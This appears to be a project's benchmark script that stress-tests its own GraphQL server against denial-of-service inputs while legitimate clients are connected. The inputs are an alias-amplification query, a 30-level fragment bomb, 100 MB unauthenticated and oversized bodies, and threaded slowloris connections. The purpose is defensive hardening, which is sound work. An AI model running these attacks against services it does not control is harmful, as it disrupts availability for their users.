"""Attacks on `serve` for bench/serve.sh while legitimate clients load it (issue 10, findings 3
and 4). Standard library only. Usage: serve_attack.py HOST:PORT TOKEN SECONDS

- amplification: 1,000 aliases of locationsAsDocument (refused), a fragment bomb (refused),
  and the costliest query still allowed (three whole-document fields), in a loop;
- unauthenticated 100 MB bodies: headers announcing them, then a trickle;
- authenticated oversized Content-Length, refused before the body;
- slow headers (slowloris) and slow bodies, each holding its connection as long as it may.

Prints how many attempts of each kind were made and how the server answered.
"""

import collections
import json
import socket
import sys
import threading
import time

HOST, PORT = sys.argv[1].rsplit(":", 1)
PORT = int(PORT)
TOKEN = sys.argv[2]
DEADLINE = time.time() + float(sys.argv[3])
COUNTS = collections.Counter()
LOCK = threading.Lock()


def count(kind):
    with LOCK:
        COUNTS[kind] += 1


def connect():
    s = socket.create_connection((HOST, PORT), timeout=60)
    return s


def status_of(sock):
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            return "closed"
        data += chunk
    return data.split(b" ", 2)[1].decode()


def graphql(query):
    body = json.dumps({"query": query, "variables": {}}).encode()
    head = (
        f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
        f"Dagster-Cloud-Api-Token: {TOKEN}\r\nContent-Length: {len(body)}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    with connect() as s:
        s.sendall(head + body)
        return status_of(s)


ALIASES = "{ " + " ".join(f"a{i}: locationsAsDocument {{ document }}" for i in range(1000)) + " }"
BOMB = "query { ...f0 }\n" + "".join(
    f"fragment f{i} on QueryRoot {{ ...f{i + 1} ...f{i + 1} }}\n" for i in range(30)
) + "fragment f30 on QueryRoot { locationsAsDocument { document } }\n"
COSTLY = "{ " + " ".join(f"a{i}: locationsAsDocument {{ document }}" for i in range(3)) + " }"


def amplification():
    while time.time() < DEADLINE:
        for name, query in (("aliases", ALIASES), ("fragment bomb", BOMB), ("costliest allowed", COSTLY)):
            try:
                count(f"{name} -> {graphql(query)}")
            except OSError as e:
                count(f"{name} -> {type(e).__name__}")


def big_unauthenticated_body():
    while time.time() < DEADLINE:
        try:
            with connect() as s:
                s.sendall(
                    f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 104857600\r\n\r\n".encode()
                )
                s.sendall(b"{" * 65536)
                count(f"unauthenticated 100 MB body -> {status_of(s)}")
        except OSError as e:
            count(f"unauthenticated 100 MB body -> {type(e).__name__}")


def oversized_content_length():
    while time.time() < DEADLINE:
        try:
            with connect() as s:
                s.sendall(
                    f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nDagster-Cloud-Api-Token: {TOKEN}\r\n"
                    "Content-Length: 104857600\r\n\r\n".encode()
                )
                count(f"authenticated 100 MB Content-Length -> {status_of(s)}")
        except OSError as e:
            count(f"authenticated 100 MB Content-Length -> {type(e).__name__}")


def slow(kind, head):
    """Holds one connection open, a byte a second, until the server closes it."""
    while time.time() < DEADLINE:
        try:
            with connect() as s:
                s.sendall(head)
                while time.time() < DEADLINE:
                    s.sendall(b"x")
                    time.sleep(1)
        except OSError:
            count(f"{kind} -> closed by the server")


def main():
    slow_headers = f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode()
    slow_body = (
        f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nDagster-Cloud-Api-Token: {TOKEN}\r\n"
        "Content-Length: 10000000\r\n\r\n"
    ).encode()
    threads = [threading.Thread(target=amplification) for _ in range(2)]
    threads += [threading.Thread(target=big_unauthenticated_body) for _ in range(4)]
    threads += [threading.Thread(target=oversized_content_length)]
    threads += [threading.Thread(target=slow, args=("slow headers", slow_headers)) for _ in range(32)]
    threads += [threading.Thread(target=slow, args=("slow body", slow_body)) for _ in range(32)]
    for t in threads:
        t.daemon = True
        t.start()
    while time.time() < DEADLINE:
        time.sleep(0.5)
    time.sleep(1)
    for kind, n in sorted(COUNTS.items()):
        print(f"  {n:6d}  {kind}")


main()
